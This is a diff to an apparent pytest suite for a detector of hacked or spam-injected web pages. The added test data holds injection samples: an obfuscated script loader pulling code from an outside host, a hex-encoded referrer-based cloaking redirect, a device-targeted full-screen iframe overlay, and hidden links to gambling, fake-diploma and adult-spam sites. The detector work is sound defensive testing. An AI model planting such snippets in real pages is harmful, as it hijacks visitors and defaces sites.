@@ -21,6 +21,7 @@ LOADERS = {
     "percent": f"document.write(unescape('{quote(TAG)}'))",
     "base 64": f"document.write(atob('{b64encode(TAG.encode()).decode()}'))",
     "packed": PACKED,
+    "its name in pieces": "var a='scr',b='ipt';document.write('<'+a+b+' src=//qxw7.com/z.js></'+a+b+'>')",
     "appended": "(function(){var s=document.createElement('script');s.src='//qxw7.com/a.js';document.head.appendChild(s)})()",
     "by attribute": "var s=document.createElement('script');s.setAttribute('src','https://qxw7.com/a.js');document.body.append(s)",
 }
@@ -84,6 +85,8 @@ LINKS = {
     "three of them, without a name": styled("display:none", THREE),
     "a paragraph of the text": f"<div class='content'><p style='visibility:hidden'>{SEO}</p></div>",
     "pinyin": styled("display:none", "<a href='http://www.abcd1.com/'>baijiale</a>"),
+    "a name nobody knows": styled("display:none", "<a href='http://www.abcd1.com/'>某某国际娱乐官网</a>"),
+    "diplomas": styled("display:none", "<a href='http://www.abcd1.com/'>本科毕业证样本</a>"),
     "optimisers": f"<div class='list' style='display:none'>{THREE}<a href='http://www.qrst5.com/'>黑帽SEO</a></div>",
 }
 
@@ -104,7 +107,23 @@ def test_what_was_once_suspected(block: str) -> None:
     assert page(block).tamper == ()
 
 
-@pytest.mark.parametrize("title", ["ＢＥＴ３６５备用网址", "真人娱樂-百家樂在線投註", "bеt365体育"])
+def test_a_frame_that_code_lays_over_the_page() -> None:
+    code = "if(/iPhone/.test(navigator.userAgent))document.write(\"<iframe src='http://m.qxw7.com/' style='position:fixed;width:100%'></iframe>\")"
+    assert signs(page(f"<script>{code}</script>")) == {Sign.FRAME}
+    assert page(f"<script>{code.replace('fixed', 'static')}</script>").tamper == ()
+    assert page(f"<script>{code.replace('qxw7.com', 'sheng.gov.cn')}</script>").tamper == ()
+
+
+def test_a_cloak_in_numbers() -> None:
+    words = ("baidu", "referrer", "http://qxw7.com", "location")
+    coded = ",".join("'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'" for word in words)
+    code = f"var _0=[{coded}];if(document[_0[1]].indexOf(_0[0])>0){{window[_0[3]]=_0[2]}}"
+    assert signs(page(head=f"<script>{code}</script>")) & {Sign.CLOAK}
+
+
+@pytest.mark.parametrize(
+    "title", ["ＢＥＴ３６５备用网址", "真人娱樂-百家樂在線投註", "bеt365体育", "久久精品国产av麻豆"]
+)
 def test_a_title_in_other_letters(title: str) -> None:
     assert signs(page(title=title)) == {Sign.TITLE}
 
